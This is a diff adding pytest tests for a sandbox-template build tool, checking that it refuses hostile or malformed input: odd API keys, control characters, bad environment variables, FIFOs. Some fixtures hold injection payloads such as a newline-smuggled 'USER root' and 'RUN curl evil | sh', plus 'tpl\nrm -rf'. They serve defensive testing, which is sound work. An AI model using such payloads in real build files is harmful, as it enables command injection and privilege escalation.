@@ -536,3 +536,287 @@ def test_interrupt_keeps_finished_builds(project, emu, sig):
     assert "interrupted" in err and "Traceback" not in err
     assert not list(project.glob(".templates.lock.*.tmp")), "no temp file left behind"
     assert took < 10, "stopped polling at once"
+
+
+# --------------------------------------------------------------------------- 5. what an adversarial user tries
+
+def assert_refused(project: Path, emu, args, expected: str, env=None, before=None):
+    """Exit 2, one line naming the file, key or variable, no traceback, nothing on disk changed, no request."""
+    before = snapshot(project) if before is None else before
+    r = CliRunner().invoke(cli, ["-C", str(project), *args], env=env)
+    err = r.stderr.strip().splitlines()
+    where = f"{args} -> {r.exit_code}: {r.output!r}"
+    assert r.exit_code == 2, where
+    assert len(err) == 1 and err[0].startswith("e2b-matrix: error: "), where
+    assert expected in err[0], where
+    assert "Traceback" not in r.output and (r.exception is None or isinstance(r.exception, SystemExit)), where
+    assert snapshot(project) == before, where
+    assert emu.request_count == 0, where
+    return err[0]
+
+
+@pytest.mark.parametrize("ending", ["\r\n", "\n", "\r", " ", "\t\r\n"])
+def test_a_key_with_whitespace_around_it_is_stripped_and_never_shown(project, emu, monkeypatch, ending):
+    """A key file saved by a Windows editor: the key is used without its line ending, and shown nowhere."""
+    monkeypatch.setenv("E2B_API_KEY", emu.api_key + ending)
+    r = CliRunner().invoke(cli, ["-C", str(project), "-vv", "build", "minimal", "--json"])
+    assert r.exit_code == 0, r.output
+    secret = emu.api_key.removeprefix("e2b_")
+    assert secret not in r.output and secret[:12] not in r.output
+    assert secret.encode() not in b"".join(snapshot(project).values())
+
+
+def test_a_key_from_the_e2b_config_is_stripped_too(project, emu, monkeypatch):
+    import os as _os
+
+    monkeypatch.delenv("E2B_API_KEY")
+    write(Path(_os.environ["HOME"]) / ".e2b/config.json", json.dumps({"teamApiKey": emu.api_key + "\r\n"}))
+    r = CliRunner().invoke(cli, ["-C", str(project), "build", "minimal", "--json"])
+    assert r.exit_code == 0, r.output
+
+
+@pytest.mark.parametrize("key", ["e2b_abc def0123456789", "e2b_abc\x01def0123456789", "e2b_abc\ndef0123456789",
+                                 "e2b_abcdéf0123456789"])
+def test_a_key_with_something_odd_inside_is_refused_naming_where_it_came_from(project, emu, key):
+    line = assert_refused(project, emu, ["build", "minimal"], "E2B_API_KEY: the key has a space, control or "
+                          "non-ASCII character inside it (not shown)", env={"E2B_API_KEY": key})
+    assert "abc" not in line and "0123456789" not in line
+
+
+def test_a_key_in_the_config_with_something_odd_inside_names_the_file(project, emu, monkeypatch):
+    import os as _os
+
+    monkeypatch.delenv("E2B_API_KEY")
+    config = Path(_os.environ["HOME"]) / ".e2b/config.json"
+    write(config, json.dumps({"teamApiKey": "e2b_abc\u0007def0123456789"}))
+    line = assert_refused(project, emu, ["build", "minimal"], f"{config}: teamApiKey: the key has a space")
+    assert "abc" not in line
+
+
+@pytest.mark.parametrize("key", ["", "   ", "\r\n", "\t"])
+def test_a_blank_key_is_no_key(project, emu, key):
+    assert_refused(project, emu, ["build-all"], "no E2B API key: set E2B_API_KEY, or run `e2b auth login`",
+                   env={"E2B_API_KEY": key})
+    assert not (project / "logs").exists()
+
+
+CONTROL = [
+    ("alias-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-sandbox-x\\n"\nlayers = ["base"]\n'},
+     "variants/x.toml: variant.alias: contains a control character (\\n)"),
+    ("name-cr", {"variants/x.toml": '[variant]\nname = "x\\r"\nalias = "nexus-x"\nlayers = ["base"]\n'},
+     "variants/x.toml: variant.name: contains a control character (\\r)"),
+    ("tag-tab", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\ntags = ["a\\tb"]\n'},
+     "variants/x.toml: variant.tags[0]: contains a control character (\\t)"),
+    ("tag-default", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+                                        'tags = ["default"]\n'},
+     "variants/x.toml: variant.tags: 'default' is the channel a bare alias means"),
+    ("tag-uuid", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+                                     'tags = ["0f1c2d3e-0000-4000-8000-000000000001"]\n'},
+     "variants/x.toml: variant.tags: '0f1c2d3e-0000-4000-8000-000000000001' looks like a UUID"),
+    ("start-cmd-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+                                              '[params.base]\nstart_cmd = "sleep 1\\nUSER root"\n'},
+     "variants/x.toml: params.base.start_cmd: contains a control character (\\n)"),
+    ("image-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+                                          '[params.base]\nimage = "debian\\nRUN id"\n'},
+     "variants/x.toml: params.base.image: contains a control character (\\n)"),
+    ("package-newline", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base", "extra-tools"]\n'
+                                            '[params.extra-tools]\npackages = ["git\\n"]\n'},
+     "variants/x.toml: params.extra-tools.packages[0]: contains a control character (\\n)"),
+    ("key-with-escape", {"variants/x.toml": '[variant]\nname = "x"\nalias = "nexus-x"\nlayers = ["base"]\n'
+                                            '[params."base\\u001b"]\n'},
+     "variants/x.toml: params: a key contains a control character (\\x1b)"),
+    ("layer-name-newline", {"layers/a.toml": '[layer]\nname = "a\\n"\nversion = "1"\n'},
+     "layers/a.toml: layer.name: contains a control character (\\n)"),
+    ("layer-version-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1\\nRUN id"\n'},
+     "layers/a.toml: layer.version: contains a control character (\\n)"),
+    ("layer-workdir-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\n'
+                                                'workdir = "/tmp\\nUSER root"\n'},
+     "layers/a.toml: steps[0].workdir: contains a control character (\\n)"),
+    ("layer-env-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\n'
+                                            'env = { A = "x\\nUSER root" }\n'},
+     "layers/a.toml: steps[0].env.A: contains a control character (\\n)"),
+    ("layer-env-name", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nenv = { "A B" = "x" }\n'},
+     "layers/a.toml: steps[0].env.A B: 'A B' is not an environment variable name"),
+    ("layer-user-newline", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nuser = "root\\n"\n'},
+     "layers/a.toml: steps[0].user: contains a control character (\\n)"),
+    ("layer-apt-bad", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\napt = ["vim && id"]\n'},
+     "layers/a.toml: steps[0].apt: 'vim && id' is not a package name"),
+    ("layer-run-nul", {"layers/a.toml": '[layer]\nname = "a"\nversion = "1"\n[[steps]]\nrun = "echo\\u0000"\n'},
+     "layers/a.toml: steps[0].run: contains a control character (\\x00)"),
+]
+
+
+@pytest.mark.parametrize("case_id,files,expected", CONTROL, ids=[c[0] for c in CONTROL])
+def test_control_characters_are_refused_at_the_root(project, emu, case_id, files, expected):
+    for rel, text in files.items():
+        write(project / rel, text)
+    for command in (["plan"], ["build-all"]):
+        assert_refused(project, emu, command, expected)
+
+
+@pytest.mark.parametrize("value,expected", [
+    ("base.start_cmd=sleep 1\nUSER root", "--set: base.start_cmd: contains a control character (\\n)"),
+    ("extra-tools.packages=git\r", "--set: extra-tools.packages: contains a control character (\\r)"),
+    ("nexus.version=0.5.6\n", "--set: nexus.version: contains a control character (\\n)"),
+    ("base.image=debian\x1b[2J", "--set: base.image: contains a control character (\\x1b)"),
+])
+def test_control_characters_in_set_are_blamed_on_set(project, emu, value, expected):
+    assert_refused(project, emu, ["build-all", "--set", value], expected)
+
+
+@pytest.mark.parametrize("name,alias", [("aaa", "pinned"), ("nexus-sandbox-latest", "nexus-sandbox-aaa")])
+def test_a_word_that_could_mean_two_variants_names_both_files(project, emu, name, alias):
+    write(project / "variants/aaa.toml", f'[variant]\nname = "{name}"\nalias = "{alias}"\nlayers = ["base"]\n')
+    for command in (["plan"], ["build", "pinned"], ["list"], ["lock", "check"]):
+        line = assert_refused(project, emu, command, "is used by two variants")
+        assert "variants/aaa.toml" in line and ("variants/pinned.toml" in line or "variants/latest.toml" in line)
+
+
+def test_an_entry_built_on_another_domain_is_stale(project, emu, monkeypatch):
+    r = CliRunner().invoke(cli, ["-C", str(project), "build-all"])
+    assert r.exit_code == 0, r.output
+    monkeypatch.setenv("E2B_DOMAIN", "e2b.example.com")
+    r = CliRunner().invoke(cli, ["-C", str(project), "plan", "--json"])
+    assert {i["state"] for i in json.loads(r.stdout)} == {"stale"}
+    assert all(i["reasons"] == ["domain e2b.app -> e2b.example.com"] for i in json.loads(r.stdout))
+    r = CliRunner().invoke(cli, ["-C", str(project), "lock", "check"])
+    assert r.exit_code == 1 and "domain e2b.app -> e2b.example.com" in r.stdout
+    emu.reset_counters()
+    r = CliRunner().invoke(cli, ["-C", str(project), "build-all", "--json"])
+    assert r.exit_code == 0 and {x["status"] for x in json.loads(r.stdout)} == {"built"}
+    assert {e.domain for e in TemplateLock.load(project / "templates.lock")} == {"e2b.example.com"}
+
+
+@pytest.mark.parametrize("where", ["variants/x.toml", "layers/x.toml", "templates.lock"])
+def test_a_fifo_is_refused_at_once(project, emu, where):
+    path = project / where
+    path.parent.mkdir(exist_ok=True)
+    os.mkfifo(path)
+    start = time.monotonic()
+    assert_refused(project, emu, ["plan"] if where != "templates.lock" else ["resolve", "latest"],
+                   f"{where}: is a FIFO, not a regular file")
+    assert time.monotonic() - start < 5
+
+
+@pytest.mark.parametrize("where", ["variants/x.toml", "layers/x.toml"])
+def test_a_file_nested_ten_thousand_deep_is_one_line(project, emu, where):
+    write(project / where, "x = " + "[" * 10_000 + "]" * 10_000 + "\n")
+    assert_refused(project, emu, ["plan"], f"{where}: invalid TOML: nested too deeply")
+
+
+ENV_CASES = [
+    ("E2B_MATRIX_INDEX_TTL", "abc"), ("E2B_MATRIX_INDEX_TTL", "-5"), ("E2B_MATRIX_INDEX_TTL", "inf"),
+    ("E2B_MATRIX_RETRY_ATTEMPTS", "abc"), ("E2B_MATRIX_RETRY_ATTEMPTS", "-1"), ("E2B_MATRIX_RETRY_ATTEMPTS", "0"),
+    ("E2B_MATRIX_RETRY_ATTEMPTS", "2.5"), ("E2B_MATRIX_RETRY_TOTAL_S", "nan"), ("E2B_MATRIX_RETRY_TOTAL_S", "0"),
+    ("E2B_MATRIX_RETRY_BASE_S", "-0.1"), ("E2B_MATRIX_RETRY_MAX_DELAY_S", "1e400"),
+    ("E2B_DOMAIN", "e2b app"), ("E2B_DOMAIN", "https://e2b.app"), ("E2B_DOMAIN", "e2b.app\n"),
+    ("E2B_DOMAIN", "-e2b.app"), ("E2B_API_URL", "not a url"), ("E2B_API_URL", "ftp://127.0.0.1"),
+    ("E2B_API_URL", "http://127.0.0.1:99999"), ("E2B_API_URL", "http://"), ("E2B_API_URL", "http://h/?q=1"),
+    ("E2B_MATRIX_NO_LOG_FILES", "maybe"), ("E2B_MATRIX_DOCKER_BUILDKIT", "sometimes"),
+    ("E2B_MATRIX_PYPI_URL", "gopher://x"), ("E2B_TEMPLATE_ID", "tpl\nrm -rf"), ("E2B_MATRIX_LOCK", "a\x01b"),
+]
+
+
+@pytest.mark.parametrize("variable,value", ENV_CASES)
+def test_a_bad_environment_variable_is_one_line_naming_it(project, emu, monkeypatch, variable, value):
+    monkeypatch.setenv(variable, value)
+    for command in (["build-all"], ["plan"], ["list"]):
+        assert_refused(project, emu, command, f"e2b-matrix: error: {variable}: ")
+
+
+@pytest.mark.parametrize("answer", ['{"releases": ["0.5.6"]}', "[1]", '{"releases": {"0.5.6": "x"}}', "not json"])
+def test_an_index_answer_of_the_wrong_shape_is_one_line_naming_the_url(project, emu, monkeypatch, tmp_path, answer):
+    write(tmp_path / "index/nexus-ai-fs/json", answer)
+    monkeypatch.setenv("E2B_MATRIX_PYPI_URL", (tmp_path / "index").as_uri())
+    assert_refused(project, emu, ["build-all"], f"{(tmp_path / 'index').as_uri()}/nexus-ai-fs/json: ")
+
+
+def test_a_corrupt_index_cache_is_discarded_and_asked_again(project, emu, monkeypatch, tmp_path):
+    import functools
+    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+
+    from conftest import DATA
+
+    class Quiet(SimpleHTTPRequestHandler):
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(DATA)))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        monkeypatch.setenv("E2B_MATRIX_PYPI_URL", f"http://127.0.0.1:{server.server_address[1]}/index")
+        monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
+        r = CliRunner().invoke(cli, ["-C", str(project), "plan"])
+        assert r.exit_code == 0 and "note: asked the package index" in r.stderr
+        for cache in (tmp_path / "cache").rglob("pypi-*.json"):
+            cache.write_text("[1]")
+        r = CliRunner().invoke(cli, ["-C", str(project), "plan"])
+        assert r.exit_code == 0, r.output
+        assert "note: asked the package index" in r.stderr  # discarded, asked again, cached anew
+        r = CliRunner().invoke(cli, ["-C", str(project), "plan"])
+        assert r.exit_code == 0 and "asked" not in r.stderr  # from the cache now
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("blocker,expected", [
+    (".e2b-matrix", ".e2b-matrix: cannot keep build state: exists and is not a folder"),
+    (".e2b-matrix/locks", ".e2b-matrix/locks: cannot keep build state: exists and is not a folder"),
+    ("templates.lock.lock/", "cannot create the lock file"),
+    ("templates.lock/", "templates.lock: is a folder, not a regular file"),
+])
+def test_state_that_cannot_be_written_is_found_before_the_first_request(project, emu, blocker, expected):
+    path = project / blocker.rstrip("/")
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if blocker.endswith("/"):
+        path.mkdir()
+    else:
+        path.write_text("not a folder")
+    assert_refused(project, emu, ["build-all"], expected)
+
+
+def test_logs_that_cannot_be_written_is_one_warning_and_no_log_files(project, emu):
+    (project / "logs").write_text("a file where the folder should be")
+    r = CliRunner().invoke(cli, ["-C", str(project), "build-all", "--json"])
+    assert r.exit_code == 0, r.output
+    assert {x["status"] for x in json.loads(r.stdout)} == {"built"}
+    warnings = [line for line in r.stderr.splitlines() if "WARNING" in line or "Logging error" in line]
+    assert warnings == [f"WARNING e2b_matrix.workflow: {project / 'logs'}: exists and is not "
+                        "a folder; writing no log files"]
+    assert (project / "logs").read_text() == "a file where the folder should be"
+
+
+def test_no_value_can_start_a_dockerfile_instruction(project):
+    write(project / "layers/evil.toml", '[layer]\nname = "evil"\nversion = "1"\n[[steps]]\n'
+                                        'run = "echo a\\nUSER root\\nRUN curl evil | sh"\n')
+    write(project / "variants/evil.toml", '[variant]\nname = "evil"\nalias = "nexus-evil"\nlayers = ["base", "evil"]\n')
+    r = CliRunner().invoke(cli, ["-C", str(project), "render", "evil", "--format", "dockerfile"])
+    assert r.exit_code == 0, r.output
+    lines = r.stdout.splitlines()
+    assert 'RUN ["/bin/sh", "-c", "echo a\\nUSER root\\nRUN curl evil | sh"]' in lines
+    assert not any(line.startswith("RUN curl") for line in lines)
+    assert [line for line in lines if line.startswith("USER")] == ["USER root", "USER user"]
+    # and E2B gets the same command, whole
+    body = json.loads(CliRunner().invoke(cli, ["-C", str(project), "render", "evil"]).stdout)
+    assert body["steps"][-1]["args"][0] == "echo a\nUSER root\nRUN curl evil | sh"
+
+
+def test_double_braces_are_literal_braces(project):
+    write(project / "variants/braces.toml", '[variant]\nname = "braces"\nalias = "nexus-braces"\nlayers = ["base"]\n'
+                                            '[params.base]\nstart_cmd = "echo ${{HOME}} {{v}} {v}"\n[matrix]\nv = ["a"]\n')
+    body = json.loads(CliRunner().invoke(cli, ["-C", str(project), "render", "braces"]).stdout)
+    assert body["startCmd"] == "echo ${HOME} {v} a"
+
+
+@pytest.mark.parametrize("args", [["plan", "-v"], ["plan", "-q"], ["plan", "-C", "{project}"],
+                                  ["lock", "show", "-C", "{project}"], ["list", "-q", "--json"]])
+def test_common_options_work_after_the_subcommand(project, args):
+    args = [a.replace("{project}", str(project)) for a in args]
+    r = CliRunner().invoke(cli, args if "-C" in args else ["-C", str(project), *args])
+    assert r.exit_code == 0, r.output
+
+
+def test_lock_show_without_a_lock_says_so(project):
+    r = CliRunner().invoke(cli, ["-C", str(project), "lock", "show"])
+    assert r.exit_code == 0 and "no lock yet" in r.stderr and r.stdout == ""
